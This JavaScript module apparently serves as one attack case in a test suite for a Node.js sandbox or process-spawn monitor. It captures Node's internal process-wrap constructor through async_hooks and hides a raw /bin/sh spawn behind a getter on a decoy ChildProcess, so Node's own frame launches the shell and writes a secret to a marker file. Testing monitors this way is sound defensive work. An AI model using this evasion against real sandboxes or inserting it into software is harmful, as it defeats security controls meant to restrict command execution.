// Like handle-process, but the native spawn is a bound getter on the options handed to
// ChildProcess.prototype.spawn: node:internal/child_process reads the option, so the frame that
// calls the raw spawn is Node's own.
import asyncHooks from 'node:async_hooks';
import childProcess from 'node:child_process';
export const meta = { kind: 'exec', evidence: 'file' };
export default function attack(ctx) {
  return new Promise((resolve, reject) => {
    let Process;
    const hook = asyncHooks.createHook({
      init(_id, type, _trigger, resource) {
        if (type === 'PROCESSWRAP') Process = resource.constructor;
      },
    }).enable();
    const allowed = childProcess.spawn('/bin/echo', ['hello'], { stdio: 'ignore' });
    allowed.on('error', reject);
    allowed.on('close', () => {
      hook.disable();
      try {
        const handle = new Process();
        handle.onexit = () => resolve('spawned');
        const file = '/bin/sh';
        const args = ['/bin/sh', '-c', `printf %s "$0" > "$1"`, ctx.secret, ctx.marker];
        const envPairs = [`PATH=${process.env.PATH ?? '/usr/bin:/bin'}`];
        const stdio = [{ type: 'ignore' }, { type: 'ignore' }, { type: 'ignore' }];
        const rawSpawn = Number(process.versions.node.split('.')[0]) >= 24
          ? Process.prototype.spawn.bind(handle, file, args, undefined, envPairs, stdio, 0, undefined, undefined)
          : Process.prototype.spawn.bind(handle, { file, args, cwd: process.cwd(), envPairs, stdio, detached: false, windowsHide: false, windowsVerbatimArguments: false });
        const options = { file: '/bin/echo', args: ['/bin/echo'], stdio: 'ignore' };
        Object.defineProperty(options, 'detached', { enumerable: true, get: rawSpawn });
        const decoy = new childProcess.ChildProcess();
        decoy.on('error', () => {});
        decoy.spawn(options);
      } catch (error) {
        reject(error);
      }
    });
  });
}
